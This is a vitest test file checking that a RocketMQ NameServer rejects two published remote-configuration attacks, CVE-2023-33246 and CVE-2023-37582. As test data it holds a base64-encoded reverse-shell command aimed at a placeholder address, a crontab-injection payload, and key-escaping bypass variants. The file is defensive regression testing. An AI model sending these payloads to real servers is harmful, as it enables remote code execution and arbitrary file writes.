/**
 * The two published RocketMQ remote-configuration attacks, sent as the public proof-of-concept
 * tools send them, must be refused with NO_PERMISSION and write nothing.
 *
 * - CVE-2023-33246 (RocketMQ ≤ 5.1.0 / 4.9.5): the update-config request sets `rocketmqHome` to a
 *   shell payload (`-c $@|sh . echo …;`) plus `filterServerNums=1` (the vulhub PoC, written for the
 *   broker; the NameServer's UPDATE_NAMESRV_CONFIG accepted the same unauthenticated update).
 * - CVE-2023-37582 (NameServer ≤ 4.9.6 / 5.1.1, the incomplete fix of the above): code 318 with
 *   `configStorePath=<file the attacker wants written>` and a payload in another value
 *   (`productEnvName`, with escaped newlines so the rewritten properties file contains a crontab
 *   line); the NameServer then persists its whole config to that path.
 *
 * The dispatcher here persists exactly like the real server would (to the live `configStorePath`),
 * so a successful attack would leave a file behind.
 */
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createRequest, decodeFrame, encodeCommand, ResponseCode } from '@ns/protocol';
import type { NamesrvConfig } from '../src/config/index.js';
import { renderConfigFile } from '../src/config/index.js';
import { createDispatcher } from '../src/handlers/handler-sets.js';
import { KVConfigManager } from '../src/kvconfig/index.js';
import { createSilentLogger } from '../src/logging.js';
import { RouteInfoManager } from '../src/route/index.js';
import { baseConfig, FakeClock, syncResult } from './handlers-harness.js';

let dir: string;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'ns-cve-'));
});

afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
});

function server() {
  let config: NamesrvConfig = baseConfig({
    configStorePath: join(dir, 'namesrv.properties'),
    kvConfigPath: join(dir, 'kvConfig.json'),
    rocketmqHome: join(dir, 'home'),
  });
  const clock = new FakeClock();
  const dispatcher = createDispatcher({
    routeInfoManager: new RouteInfoManager({ clock }),
    kvConfigManager: new KVConfigManager(),
    config: {
      get: () => config,
      set: (next) => {
        config = next;
      },
    },
    // What the composition root does: rewrite configStorePath with the whole config.
    persistConfig: (next) => {
      writeFileSync(config.configStorePath, renderConfigFile(next));
    },
    logger: createSilentLogger(),
    clock,
  });
  return { dispatcher, config: () => config };
}

/** The attack as the PoC tools put it on the wire: a JSON-header frame, body = properties text. */
function attackFrame(body: string): Buffer {
  return encodeCommand(
    createRequest({ code: 318, opaque: 0, version: 405, body: Buffer.from(body, 'utf8') }),
  );
}

function send(s: ReturnType<typeof server>, frame: Buffer) {
  return syncResult(
    s.dispatcher.dispatch(decodeFrame(frame.subarray(4)), {
      connectionId: 1,
      remoteAddress: '203.0.113.9:40000',
    }),
  )!;
}

describe('CVE-2023-33246: rocketmqHome command injection through UPDATE_NAMESRV_CONFIG', () => {
  it('is refused with NO_PERMISSION and changes nothing', () => {
    const s = server();
    const before = s.config();
    const cmd = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/12345 0>&1').toString('base64');
    const body = `rocketmqHome=-c $@|sh . echo echo "${cmd}"|base64 -d|bash -i;\nfilterServerNums=1\n`;
    const res = send(s, attackFrame(body));
    expect(res.code).toBe(ResponseCode.NO_PERMISSION);
    expect(res.remark).toBe('Can not update config in black list.');
    expect(s.config()).toBe(before);
    expect(s.config().rocketmqHome).toBe(join(dir, 'home'));
    expect(readdirSync(dir)).toEqual([]);
  });
});

describe('CVE-2023-37582: arbitrary file write through configStorePath', () => {
  it('is refused with NO_PERMISSION and writes no file', () => {
    const s = server();
    const before = s.config();
    const target = join(dir, 'pwned');
    const payload = 'test\\n*/1 * * * * root touch /tmp/cve-2023-37582-success\\n';
    const res = send(s, attackFrame(`configStorePath=${target}\nproductEnvName=${payload}\n`));
    expect(res.code).toBe(ResponseCode.NO_PERMISSION);
    // The 5.x remark (compatibilityLine default); 4.9 says `Can not update config path`.
    expect(res.remark).toBe('Can not update config in black list.');
    expect(existsSync(target)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
    expect(s.config()).toBe(before);
    expect(s.config().productEnvName).toBe(before.productEnvName);
  });

  it('the kvConfigPath variant is refused the same way', () => {
    const s = server();
    const target = join(dir, 'evil-kv.json');
    const res = send(s, attackFrame(`kvConfigPath=${target}\n`));
    expect(res.code).toBe(ResponseCode.NO_PERMISSION);
    expect(existsSync(target)).toBe(false);
    expect(s.config().kvConfigPath).toBe(join(dir, 'kvConfig.json'));
  });

  it('hiding the path key behind escapes or extra keys does not help', () => {
    const s = server();
    const target = join(dir, 'pwned2');
    // Properties escapes: `config\\StorePath` is the key `configStorePath` after load().
    for (const body of [
      `config\\StorePath=${target}\n`,
      `orderMessageEnable=true\nconfigStorePath=${target}\n`,
      `configBlackList=\nconfigStorePath=${target}\n`,
    ]) {
      const res = send(s, attackFrame(body));
      expect(res.code, body).toBe(ResponseCode.NO_PERMISSION);
    }
    expect(readdirSync(dir)).toEqual([]);
    expect(s.config().orderMessageEnable).toBe(false);
  });

  it('a legitimate live update still works and writes only the configured file', () => {
    const s = server();
    const res = send(s, attackFrame('orderMessageEnable=true\n'));
    expect(res.code).toBe(ResponseCode.SUCCESS);
    expect(readdirSync(dir)).toEqual(['namesrv.properties']);
  });
});
